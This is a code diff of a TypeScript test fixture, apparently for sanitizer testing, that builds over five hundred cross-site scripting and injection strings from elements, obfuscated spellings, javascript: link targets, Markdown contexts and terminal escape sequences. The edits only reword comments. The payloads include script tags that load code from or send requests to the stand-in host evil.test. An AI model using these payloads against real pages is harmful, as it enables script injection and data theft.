@@ -1,10 +1,9 @@
-// Strings that would run, load or lead somewhere if any part of a page took them for more than text. Put together from
-// parts, so that every element meets every spelling and every place of Markdown. What runs would set `hit`, open a dialog
-// or ask evil.test for something.
+// Strings that would run, load or navigate if a page treated them as more than text, combined from elements, spellings
+// and Markdown contexts. An attack that works sets `hit`, opens a dialog or requests evil.test.
 
 const RUNS = "globalThis.hit=1;alert(1);new Image().src='//evil.test/ran'"
 
-/** Elements that run something, load something, or change what is around them. */
+/** Elements that run or load something, or change the page around them. */
 const ELEMENTS: readonly string[] = [
   `<script>${RUNS}</script>`,
   `<script src=//evil.test/x.js></script>`,
@@ -57,7 +56,7 @@ const ELEMENTS: readonly string[] = [
 
 const entity = (character: string) => `&#${character.codePointAt(0)};`
 
-/** The same, written so that something on the way might make the first out of it. */
+/** Spellings that a faulty sanitizer might turn into working elements. */
 const SPELLINGS: readonly ((text: string) => string)[] = [
   (text) => text.replace(/[a-z]/g, (letter, place) => (place % 2 === 0 ? letter.toUpperCase() : letter)),
   (text) => text.replace(/[<>"'&]/g, entity),
@@ -69,7 +68,7 @@ const SPELLINGS: readonly ((text: string) => string)[] = [
   (text) => text.replaceAll('<', '<\u200b').replaceAll('on', 'o\u00adn'),
 ]
 
-/** Where a link may lead. */
+/** Link targets. */
 const TARGETS: readonly string[] = [
   'javascript:alert(1)',
   'JaVaScRiPt:alert(1)',
@@ -93,7 +92,7 @@ const TARGETS: readonly string[] = [
   '?token=x',
 ]
 
-/** Where in Markdown something may stand. */
+/** Markdown contexts. */
 const LINKS: readonly ((target: string) => string)[] = [
   (target) => `[link](${target})`,
   (target) => `[link](<${target}>)`,
@@ -116,7 +115,7 @@ const PLACES: readonly ((text: string) => string)[] = [
   (text) => `<div>\n\n${text}\n\n</div>`,
 ]
 
-/** What would speak to a terminal, around what would speak to a page. */
+/** Terminal escape sequences around markup. */
 const TERMINAL: readonly ((text: string) => string)[] = [
   (text) => `\u001b[31m${text}\u001b[0m`,
   (text) => `\u001b]8;;javascript:alert(1)\u0007${text}\u001b]8;;\u0007`,
@@ -126,14 +125,14 @@ const TERMINAL: readonly ((text: string) => string)[] = [
   (text) => `\u001bP$q${text}\u001b\\\u009b2J\u001b[?1049h`,
 ]
 
-/** Some of them, others for each place in the list: all would be thousands. */
+/** Picks some strings, different ones per context; all combinations would be thousands. */
 function inTurn<Value>(values: readonly Value[], place: number, count: number): Value[] {
   return Array.from({ length: count }, (_, index) => values[(place * count + index) % values.length]).filter(
     (value) => value !== undefined,
   )
 }
 
-/** More than five hundred, no two alike. */
+/** More than five hundred distinct strings. */
 export const ATTACK_STRINGS: readonly string[] = [
   ...new Set([
     ...ELEMENTS,
